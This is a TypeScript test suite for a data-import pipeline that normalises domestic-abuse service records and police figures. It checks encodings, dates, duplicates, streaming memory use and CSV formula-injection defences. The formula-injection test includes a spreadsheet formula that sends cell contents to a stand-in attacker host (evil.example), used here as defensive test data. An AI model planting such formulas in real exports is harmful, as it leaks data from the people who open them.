import { describe, expect, it } from 'vitest'
import { setFlagsFromString } from 'node:v8'
import { runInNewContext } from 'node:vm'
import { parse } from 'csv-parse/sync'
import { ImportFileError } from './errors.ts'
import { MAPPING_FORMAT, type Mapping, identityMapping, parseMapping } from './mapping.ts'
import { type ErrorEvent, type ImportSummary, type ProcessEvent, type RowEvent, errorReportCsv, processFile } from './pipeline.ts'
import { toCsv } from './csvSafe.ts'
import { collect, fixture, idvaMapping } from './testSupport.ts'
import { type ServiceEpisodeRow, serviceEpisodeRowSchema } from '../../standard/serviceEpisodes.ts'
import type { ValidatedRow } from './validate.ts'

const today = '2026-11-22'
const run = (source: Parameters<typeof processFile>[0], mapping: Mapping, extra: Partial<Parameters<typeof processFile>[1]> = {}) =>
  collect(processFile<ServiceEpisodeRow>(source, { mapping, today, ...extra }))
const rowsOf = <R extends ValidatedRow>(events: ProcessEvent<R>[]) => events.filter((e): e is RowEvent<R> => e.kind === 'row')
const errorsOf = <R extends ValidatedRow>(events: ProcessEvent<R>[]) => events.filter((e): e is ErrorEvent => e.kind === 'error')
const summaryOf = <R extends ValidatedRow>(events: ProcessEvent<R>[]) => {
  const last = events.at(-1)
  expect(last?.kind).toBe('summary')
  return last as ImportSummary
}

/** A minimal mapping for the small fixtures: record id, person, referral date (+ ignore Notes). */
const minimal = (over: Partial<Mapping> = {}) =>
  parseMapping({
    format: MAPPING_FORMAT,
    agency: 'test',
    dataset: 'service-episodes',
    version: 1,
    standardVersion: '2026.1',
    columns: { 'Case Ref': 'record_id', 'Client ID': 'person_ref', 'Referral Date': 'referral_date' },
    ignoreColumns: ['Notes'],
    ...over,
  })

async function fileError(p: Promise<unknown>): Promise<ImportFileError> {
  try {
    await p
  } catch (e) {
    expect(e).toBeInstanceOf(ImportFileError)
    return e as ImportFileError
  }
  throw new Error('expected an ImportFileError')
}

describe('processFile', () => {
  it('imports the Windows-1252 IDVA file (with £ and é) to normalised rows', async () => {
    const events = await run(fixture('windows-1252.csv'), idvaMapping())
    const rows = rowsOf(events)
    expect(errorsOf(events)).toEqual([])
    expect(rows.map((r) => r.rowNumber)).toEqual([2, 3])
    expect(rows[0]!.row).toEqual({
      record_id: 'C001', person_ref: 'P001', household_ref: null, given_name: 'Renée', family_name: 'Dupré',
      date_of_birth: '1985-02-14', age: null, postcode: null, perpetrator_ref: null, service: 'idva', team: null,
      district: null, referral_date: '2021-04-03', first_contact_date: null, closure_date: null,
      referral_source: 'police', risk_level: 'high', dash_score: 16, engaged: null, sex: null,
      gender_identity: 'woman', trans: null, sexual_orientation: null, ethnicity: 'white-british',
      disability: ['none'], nationality: 'GB', main_language: null, interpreter_needed: 'no', nrpf: null,
      marital_status: null, household_type: null, children_count: null, employment_status: null, support_needs: null,
    })
    expect(rows[1]!.row).toMatchObject({ given_name: 'Zoë', ethnicity: 'white-irish', disability: ['physical', 'mental-health'], closure_date: '2021-06-30', nationality: 'IE', referral_source: 'self', risk_level: 'medium' })
    const summary = summaryOf(events)
    expect(summary).toMatchObject({ rowsRead: 2, rowsValid: 2, rowsWithErrors: 0, errorCount: 0, agency: 'cambs-idva', mappingVersion: 1, dataset: 'service-episodes' })
    expect(summary.meta).toMatchObject({ format: 'csv', encoding: 'windows-1252', encodingSource: 'fallback' })
    expect(summary.meta.warnings[0]).toContain('Windows-1252')
    expect(summary.headers.ignored).toEqual(['Notes'])
    expect(summary.headers.suppliedFields).toContain('service')
  })

  it('imports the LibreOffice XLSX; the preview reports the one unmapped value; fixing the mapping imports every row', async () => {
    const first = await run(fixture('idva-libreoffice.xlsx'), idvaMapping())
    expect(rowsOf(first).map((r) => r.rowNumber)).toEqual([2, 3, 5, 6])
    const [err] = errorsOf(first)
    expect(err).toMatchObject({ rowNumber: 4, key: 'I003' })
    expect(err!.cells['Ethnicity']).toBe('White Eastern European')
    expect(err!.errors).toEqual([
      expect.objectContaining({ rowNumber: 4, column: 'Ethnicity', field: 'ethnicity', value: 'White Eastern European', code: 'unmapped-value' }),
    ])
    const summary = summaryOf(first)
    expect(summary.unmappedValues).toEqual([{ column: 'Ethnicity', field: 'ethnicity', truncated: false, values: [{ value: 'White Eastern European', count: 1, rows: [4] }] }])
    expect(summary.errorsByCode).toEqual({ 'unmapped-value': 1 })

    const fixed = idvaMapping()
    fixed.values!['ethnicity']!['White Eastern European'] = 'white-other'
    fixed.version = 2
    const second = await run(fixture('idva-libreoffice.xlsx'), fixed)
    expect(errorsOf(second)).toEqual([])
    expect(rowsOf(second)).toHaveLength(5)
    expect(rowsOf(second)[2]!.row).toMatchObject({ record_id: 'I003', ethnicity: 'white-other', nationality: 'PL', interpreter_needed: 'yes', date_of_birth: null })
    expect(rowsOf(second)[3]!.row).toMatchObject({ record_id: 'I004', ethnicity: 'declined', disability: ['not-known'], gender_identity: 'man', risk_level: 'standard' })
    expect(rowsOf(second)[4]!.row).toMatchObject({ record_id: 'I005', gender_identity: 'non-binary', referral_source: 'family-friend', ethnicity: 'mixed-white-black-caribbean', dash_score: null })
    expect(summaryOf(second).mappingVersion).toBe(2)
    // every row the pipeline produces satisfies the standard's zod schema
    for (const r of rowsOf(second)) expect(serviceEpisodeRowSchema.safeParse(r.row).error).toBeUndefined()
  })

  it('gives the same rows from the LibreOffice XLSX and its Windows-1252 CSV', async () => {
    const m = idvaMapping()
    const x = rowsOf(await run(fixture('idva-libreoffice.xlsx'), m)).map((r) => r.row)
    const c = rowsOf(await run(fixture('idva-libreoffice-1252.csv'), m)).map((r) => r.row)
    expect(c).toEqual(x)
  })

  it('ambiguous date with no declared format: an error saying so; a declared format fixes it', async () => {
    const events = await run(fixture('ambiguous-dates.csv'), minimal())
    const errs = errorsOf(events)
    expect(errs.map((e) => e.rowNumber)).toEqual([2, 3])
    expect(errs[0]!.errors).toEqual([
      expect.objectContaining({ rowNumber: 2, column: 'Referral Date', value: '03/04/2021', code: 'ambiguous-date', message: expect.stringContaining('ambiguous') }),
    ])
    expect(errs[1]!.errors[0]).toMatchObject({ value: '25/12/2021', code: 'invalid-date' })
    expect(rowsOf(events).map((r) => r.row.referral_date)).toEqual(['2021-04-03'])

    const declared = await run(fixture('ambiguous-dates.csv'), minimal({ dateFormat: 'DD/MM/YYYY' }))
    expect(rowsOf(declared).map((r) => r.row.referral_date)).toEqual(['2021-04-03', '2021-12-25', '2021-04-03'])
  })

  it('duplicate record_id: the second and later occurrences are errors naming the first row', async () => {
    const events = await run(fixture('duplicate-ids.csv'), minimal())
    expect(rowsOf(events).map((r) => r.rowNumber)).toEqual([2, 3])
    expect(errorsOf(events).map((e) => [e.rowNumber, e.key, e.errors[0]!.code, e.errors[0]!.message])).toEqual([
      [4, 'C001', 'duplicate-key', 'duplicate: record_id "C001" already appears on row 2 of this file'],
      [5, 'C001', 'duplicate-key', 'duplicate: record_id "C001" already appears on row 2 of this file'],
    ])
    expect(errorsOf(events)[0]!.errors[0]!.column).toBe('Case Ref')
  })

  it('empty and header-only files are file errors', async () => {
    expect((await fileError(run(fixture('empty.csv'), minimal()))).code).toBe('empty-file')
    expect((await fileError(run(fixture('header-only.csv'), idvaMapping()))).code).toBe('header-only')
  })

  it('wrong encoding is a file error', async () => {
    const e = await fileError(run(fixture('wrong-encoding.csv'), minimal({ columns: { 'Case Ref': 'record_id', 'Client ID': 'person_ref', Forename: 'given_name' }, constants: {} })))
    expect(e.code).toBe('encoding')
    const declared = await fileError(run(fixture('windows-1252.csv'), { ...idvaMapping(), encoding: 'utf-8' }))
    expect(declared.message).toContain('declared as UTF-8')
  })

  it('quoted newlines: one row each', async () => {
    const events = await run(fixture('quoted-newlines.csv'), minimal())
    expect(rowsOf(events).map((r) => r.rowNumber)).toEqual([2, 3, 4])
    expect(summaryOf(events).rowsValid).toBe(3)
  })

  it('columns the mapping does not cover stop the import, listing them', async () => {
    const e = await fileError(run(fixture('windows-1252.csv'), minimal()))
    expect(e.code).toBe('unknown-columns')
    expect(e.details.columns).toEqual(['Forename', 'Surname', 'DOB', 'Closed', 'Referred By', 'Risk', 'DASH', 'Gender', 'Ethnicity', 'Disability', 'Nationality', 'Interpreter'])
    const relaxed = await run(fixture('windows-1252.csv'), minimal({ dateFormat: 'DD/MM/YYYY', ignoreOtherColumns: true }))
    expect(summaryOf(relaxed).rowsValid).toBe(2)
  })

  it('refuses a mapping for another dataset', async () => {
    await expect(run(fixture('windows-1252.csv'), idvaMapping(), { dataset: 'police-aggregates' })).rejects.toThrow(/not police-aggregates/)
  })

  it('formula-injection cells are imported as text but neutralised in the error report and exports', async () => {
    const m = minimal({ columns: { 'Case Ref': 'record_id', 'Client ID': 'person_ref', Forename: 'given_name', 'Referral Date': 'referral_date', Ethnicity: 'ethnicity' }, values: { ethnicity: { 'White British': 'white-british' } } })
    const events = await run(fixture('formula-injection.csv'), m)
    const [row] = rowsOf(events)
    expect(row!.row.given_name).toBe('=HYPERLINK("http://evil.example/?"&A1,"Click")')

    const report = (await collect(errorReportCsv(events))).join('')
    const parsed = parse(report, { bom: true }) as string[][]
    expect(parsed[0]).toEqual(['row', 'column', 'value', 'message'])
    expect(parsed[1]).toEqual(['3', 'Ethnicity', "'=1+2", expect.stringContaining('"=1+2" is not a code of ethnicity')])
    expect(report).not.toMatch(/(^|,)"=/m)

    const exported = (await collect(toCsv(['record_id', 'given_name'], rowsOf(events).map((r) => r.row as unknown as Record<string, unknown>)))).join('')
    expect(parse(exported, { bom: true })).toEqual([['record_id', 'given_name'], ['C001', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`]])
  })

  it('imports police aggregates keyed on district and month', async () => {
    const mapping = parseMapping({
      format: MAPPING_FORMAT, agency: 'cambs-police', dataset: 'police-aggregates', version: 1, standardVersion: '2026.1',
      columns: { District: 'district', Month: 'month', 'DA Incidents': 'incidents', 'DA Crimes': 'crimes' },
      values: { district: { 'Cambridge City': 'cambridge', Fenland: 'fenland' } },
    })
    const csv = 'District,Month,DA Incidents,DA Crimes\r\nCambridge City,Apr-2022,"1,204",598\r\nFenland,2022-04,411,230\r\nFenland,April 2022,1,1\r\nFenland,2022-05,x,1\r\n'
    const events = await run(new Uint8Array(Buffer.from(csv)), mapping, { profile: { districts: ['cambridge', 'fenland'] } })
    expect(rowsOf(events).map((r) => r.row)).toEqual([
      { district: 'cambridge', month: '2022-04', incidents: 1204, crimes: 598 },
      { district: 'fenland', month: '2022-04', incidents: 411, crimes: 230 },
    ])
    expect(errorsOf(events).map((e) => [e.rowNumber, e.errors.map((x) => x.code)])).toEqual([
      [4, ['duplicate-key']],
      [5, ['invalid-integer']],
    ])
  })

  it('imports a file already in the standard layout with the identity mapping, honouring a declared delimiter', async () => {
    const csv = 'record_id;person_ref;referral_date;ethnicity;disability;sex\nX1;P1;2022-01-05;white-roma;physical;female\nX2;P2;2022-01-06;Roma;;\n'
    const mapping = { ...identityMapping('demo', 'service-episodes'), delimiter: ';' as const, multiValueSeparator: '|' }
    const events = await run(new Uint8Array(Buffer.from(csv)), mapping)
    expect(rowsOf(events).map((r) => [r.row.record_id, r.row.ethnicity, r.row.disability, r.row.sex])).toEqual([['X1', 'white-roma', ['physical'], 'female']])
    expect(errorsOf(events)[0]!.errors[0]).toMatchObject({ rowNumber: 3, column: 'ethnicity', value: 'Roma', code: 'unmapped-value' })
    expect(summaryOf(events).headers.suppliedFields).toEqual(['record_id', 'person_ref', 'referral_date', 'sex', 'ethnicity', 'disability'])
  })

  it('reports progress', async () => {
    const seen: number[] = []
    await run(fixture('idva-libreoffice.xlsx'), idvaMapping(), { progressEvery: 2, onProgress: (p) => seen.push(p.rowsRead) })
    expect(seen).toEqual([2, 4, 5])
  })
})

// ---------------------------------------------------------------------------------------------------

/** A large CSV produced on the fly, never held in memory: a fresh stream each call. */
function generatedCsv(rows: number): () => AsyncIterable<Uint8Array> {
  const header = 'Case Ref,Client ID,Forename,Surname,DOB,Referral Date,Closed,Referred By,Risk,DASH,Gender,Ethnicity,Disability,Nationality,Interpreter,Notes\r\n'
  const eth = ['White British', 'W2', 'Pakistani', 'Not stated', 'Mixed White/Black Caribbean']
  return async function* () {
    yield Buffer.from('\uFEFF' + header)
    const perChunk = 2000
    for (let start = 0; start < rows; start += perChunk) {
      let s = ''
      for (let i = start; i < Math.min(rows, start + perChunk); i++) {
        const day = String((i % 28) + 1).padStart(2, '0')
        const bad = i % 1000 === 999 // one row in a thousand has an unmapped ethnicity
        s +=
          `R${i},P${i % 50_000},Renée ${i},Dupré,${day}/02/1985,${day}/04/2021,${i % 3 === 0 ? `${day}/06/2021` : ''},` +
          `Police,High,${i % 25},F,${bad ? 'Martian' : eth[i % eth.length]},Mental Health;Physical,British,N,"note ${i}, with ""quotes""\nand a line break"\r\n`
      }
      yield Buffer.from(s)
    }
  }
}

function gcFunction(): () => void {
  setFlagsFromString('--expose-gc')
  return runInNewContext('gc') as () => void
}

describe('processFile streaming', () => {
  it('streams 200,000 rows in bounded memory', async () => {
    const gc = gcFunction()
    const N = 200_000
    gc()
    const memory = () => {
      const m = process.memoryUsage()
      return m.heapUsed + m.arrayBuffers
    }
    const before = memory()
    const samples: number[] = []
    let valid = 0
    let invalid = 0
    let summary: ImportSummary | undefined
    for await (const ev of processFile(generatedCsv(N), { mapping: idvaMapping(), today })) {
      if (ev.kind === 'row') {
        valid++
        if (valid % 50_000 === 0) {
          gc()
          samples.push(memory() - before)
        }
      } else if (ev.kind === 'error') invalid++
      else summary = ev
    }
    expect(valid).toBe(N - N / 1000)
    expect(invalid).toBe(N / 1000)
    expect(summary).toMatchObject({ rowsRead: N, rowsValid: N - N / 1000, rowsWithErrors: N / 1000 })
    expect(summary!.unmappedValues[0]!.values[0]).toMatchObject({ value: 'Martian', count: N / 1000, rows: [1001, 2001, 3001, 4001, 5001] })
    expect(summary!.meta.encoding).toBe('utf-8')
    // The generated file is about 30 MB and its parsed rows would take several hundred MB. What may
    // grow is the set of record ids seen (for duplicate detection): well under 100 bytes a row.
    const growth = samples.at(-1)! - samples[0]!
    console.log(`heap growth over ${N} rows: first sample ${(samples[0]! / 1e6).toFixed(1)} MB, last ${(samples.at(-1)! / 1e6).toFixed(1)} MB, duration ${summary!.durationMs} ms`)
    expect(samples.length).toBe(3)
    expect(growth).toBeLessThan(150 * 100_000 * 1.5)
    expect(Math.max(...samples)).toBeLessThan(80 * 1024 * 1024)
  }, 60_000)
})
